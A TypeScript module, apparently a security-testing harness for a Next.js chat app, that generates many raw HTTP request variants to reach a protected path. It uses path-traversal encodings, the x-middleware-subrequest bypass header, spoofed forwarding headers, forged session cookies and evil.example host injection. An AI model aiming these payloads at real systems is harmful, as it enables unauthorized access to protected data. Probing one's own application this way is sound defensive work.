import { once } from "node:events";
import { connect } from "node:net";

/** A request as it goes over the wire. */
export type RawRequest = {
  name: string;
  /** What stands between method and version. */
  target: string;
  method?: string;
  version?: string;
  headers?: readonly [name: string, value: string][];
};

/** Milliseconds after which a server that neither answers nor hangs up has said all it will. */
const silence = 3_000;

/** Sends a request without any client's help – which would set its path right – and answers every byte that comes back. */
export async function sendRaw(
  origin: string,
  { target, method = "GET", version = "1.1", headers = [] }: RawRequest,
): Promise<string> {
  const { hostname, port, host } = new URL(origin);
  const socket = connect(Number(port), hostname);
  let bytes = "";
  socket.setEncoding("utf8").setTimeout(silence, () => socket.destroy());
  socket.on("data", (text) => {
    bytes += text;
  });
  socket.on("error", () => {});
  const named = new Set(headers.map(([name]) => name.toLowerCase()));
  const lines = [
    `${method} ${target} HTTP/${version}`,
    ...(named.has("host") ? [] : [`Host: ${host}`]),
    ...headers.map(([name, value]) => `${name}: ${value}`),
    ...(named.has("connection") ? [] : ["Connection: close"]),
    "",
    "",
  ];
  socket.write(lines.join("\r\n"));
  await once(socket, "close");
  return bytes;
}

/** @param from characters of a path that are written otherwise */
const escaped = (path: string, from: RegExp) =>
  path.replaceAll(from, (character) => `%${character.charCodeAt(0).toString(16)}`);

/** Other ways to write a path, all of which somebody has taken for the path itself somewhere. */
function spellings(path: string, origin: string): RawRequest[] {
  const { host } = new URL(origin);
  const last = path.lastIndexOf("/");
  const targets = [
    path,
    `${path}/`,
    `${path}//`,
    `${path}/.`,
    `${path}/..`,
    `${path}/../${path.slice(last + 1)}`,
    `${path}.`,
    `${path}...`,
    `${path};x`,
    `${path}/;/`,
    `${path}/..;/`,
    `${path}%00`,
    `${path}%20`,
    `${path}%0a`,
    `${path}%23`,
    `${path}%3f`,
    `${path}?`,
    `${path}#x`,
    `${path}.rsc`,
    `${path}.rsc?_rsc`,
    `${path}.txt`,
    `${path}.json`,
    `${path}.html`,
    `${path}.segments/_tree.segment.rsc`,
    `${path}.segments/_full.segment.rsc`,
    `/_next/data/build${path}.json`,
    `/_next/image?url=${encodeURIComponent(path)}&w=64&q=75`,
    `/_next/..${path}`,
    `/_next/static/../..${path}`,
    `/_next/static/%2e%2e/%2e%2e${path}`,
    `/${path}`,
    `//${path}`,
    `/.${path}`,
    `/x/..${path}`,
    `/%2e${path}`,
    `/%2e%2e${path}`,
    `/x/%2e%2e${path}`,
    `/x%2f..${path}`,
    `/signin/..${path}`,
    `/share/..${path}`,
    `/icon.svg/..${path}`,
    `/api/health/live/../../..${path}`,
    `/en${path}`,
    `/(chat)${path}`,
    `\\${path.slice(1)}`,
    path.replaceAll("/", "\\"),
    path.slice(0, last) + escaped(path.slice(last), /[/]/g),
    escaped(path, /[a-z]/g),
    escaped(escaped(path, /[a-z]/g), /%/g),
    escaped(path, /[/]/g),
    path.toUpperCase(),
    path.replace(/^\/./, (start) => start.toUpperCase()),
    path.replace("/c", "/%63"),
    path.replace("/c", "/\u0441"),
    `${origin}${path}`,
    `http://${host}@evil.example${path}`,
    `http://evil.example${path}`,
    `https://localhost${path}`,
    `//${host}${path}`,
    path.slice(1),
    `*${path}`,
  ];
  return targets.map((target) => ({ name: target.replace(path, "…"), target }));
}

/** Names under which frameworks, proxies and caches have passed on who may come in, or where a request really goes. */
function whispers(path: string, userId: string): RawRequest[] {
  const five = (name: string) => Array(5).fill(name).join(":");
  const onPath: [string, string][] = [
    ["x-middleware-subrequest", five("middleware")],
    ["x-middleware-subrequest", five("src/middleware")],
    ["x-middleware-subrequest", five("proxy")],
    ["x-middleware-subrequest", five("src/proxy")],
    ["x-middleware-subrequest", "pages/_middleware"],
    ["x-middleware-next", "1"],
    ["x-middleware-prefetch", "1"],
    ["x-middleware-skip", "1"],
    ["x-middleware-override-headers", "cookie"],
    ["x-middleware-set-cookie", `branchline.session=${userId}`],
    ["x-nextjs-data", "1"],
    ["x-nextjs-matched-path", "/signin"],
    ["x-prerender-revalidate", "1"],
    ["x-now-route-matches", "1=x"],
    ["x-invoke-status", "200"],
    ["purpose", "prefetch"],
    ["next-url", "/signin"],
    ["next-hmr-refresh", "1"],
    ["next-action", "0".repeat(42)],
    ["next-resume", "1"],
    ["x-forwarded-for", "127.0.0.1"],
    ["x-forwarded-host", "localhost"],
    ["x-forwarded-proto", "https"],
    ["x-forwarded-user", userId],
    ["x-real-ip", "127.0.0.1"],
    ["x-client-ip", "127.0.0.1"],
    ["forwarded", "for=127.0.0.1;proto=https"],
    ["x-original-method", "OPTIONS"],
    ["x-http-method-override", "OPTIONS"],
    ["authorization", `Bearer ${userId}`],
    ["cookie", `branchline.session=${userId}; __Host-branchline.session=${userId}`],
    ["cookie", `authjs.session-token=${userId}; next-auth.session-token=${userId}`],
    ["origin", "http://localhost"],
    ["host", "127.0.0.1"],
    ["upgrade", "websocket"],
  ];
  const instead = [
    "x-middleware-rewrite",
    "x-original-url",
    "x-rewrite-url",
    "x-matched-path",
    "x-invoke-path",
    "x-forwarded-uri",
    "x-forwarded-path",
    "x-forwarded-prefix",
    "x-envoy-original-path",
    "next-url",
    "x-nextjs-rewritten-path",
  ];
  return [
    ...onPath.map((header) => ({ name: header.join(": "), target: path, headers: [header] })),
    ...instead.map((name) => ({
      name: `${name} on another page`,
      target: "/signin",
      headers: [[name, path] as [string, string]],
    })),
  ];
}

/** The forms in which a page of Next's can be had, beside the document. */
function dataForms(path: string): RawRequest[] {
  const tree = encodeURIComponent(JSON.stringify(["", {}, null, null, true]));
  const forms: [string, string][][] = [
    [["rsc", "1"]],
    [
      ["rsc", "1"],
      ["next-router-state-tree", tree],
    ],
    [
      ["rsc", "1"],
      ["next-router-prefetch", "1"],
    ],
    [
      ["rsc", "1"],
      ["next-router-prefetch", "2"],
    ],
    ...["/_tree", "/_index", "/_full", "/_head", path].map((segment): [string, string][] => [
      ["rsc", "1"],
      ["next-router-prefetch", "1"],
      ["next-router-segment-prefetch", segment],
    ]),
  ];
  return forms.map((headers) => ({
    name: headers.map((header) => header.join(": ")).join(", "),
    target: `${path}?_rsc`,
    headers,
  }));
}

/** Every way to ask for a path past whoever watches it. */
export function variantsOf(path: string, origin: string, userId: string): RawRequest[] {
  return [
    ...spellings(path, origin),
    ...whispers(path, userId),
    ...dataForms(path),
    { name: "HTTP/1.0", target: path, version: "1.0" },
    { name: "HEAD", target: path, method: "HEAD" },
    { name: "a method nobody knows", target: path, method: "SEARCH" },
    { name: "get", target: path, method: "get" },
    {
      name: "two hosts",
      target: path,
      headers: [
        ["host", new URL(origin).host],
        ["host", "evil.example"],
      ],
    },
    {
      name: "an upgrade to an absolute address",
      target: `${origin}${path}`,
      headers: [
        ["connection", "upgrade"],
        ["upgrade", "websocket"],
        ["sec-websocket-version", "13"],
        ["sec-websocket-key", "AAAAAAAAAAAAAAAAAAAAAA=="],
      ],
    },
  ];
}
